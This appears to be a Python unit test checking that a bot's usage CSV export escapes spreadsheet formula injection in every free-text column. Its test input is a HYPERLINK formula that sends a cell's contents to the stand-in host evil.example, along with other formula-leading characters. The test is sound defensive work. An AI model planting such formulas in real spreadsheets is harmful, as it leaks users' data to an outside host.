"""The usage CSV never hands a spreadsheet a formula: every text column is escaped, the style name too."""

from __future__ import annotations

import csv
import io

from bot.core.reports import UsageCsv
from bot.core.usage_records import EXPORT_COLUMNS

NUMBERS = {
    "id",
    "created_at",
    "guild_id",
    "channel_id",
    "user_id",
    "counted",
    "ref_count",
    "duration",
    "job_id",
    "request_id",
    "video_seconds",
    "used_credit",
    "source_job_id",
    "source_image_index",
}


def test_every_free_text_column_is_escaped() -> None:
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    row = [1_800_000_000.0 if c == "created_at" else 7 if c in NUMBERS else hostile for c in EXPORT_COLUMNS]
    table = UsageCsv(1 << 20)
    assert table.add(row)
    written = next(iter(csv.DictReader(io.StringIO(table.data().decode()))))
    texts = [c for c in EXPORT_COLUMNS if c not in NUMBERS]
    assert "style" in texts and "outcome" in texts
    for column in texts:
        assert written[column] == "'" + hostile, column
    for start in ("+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"):
        table = UsageCsv(1 << 20)
        table.add(
            [1_800_000_000.0 if c == "created_at" else 7 if c in NUMBERS else start for c in EXPORT_COLUMNS]
        )
        assert next(iter(csv.DictReader(io.StringIO(table.data().decode()))))["style"] == "'" + start
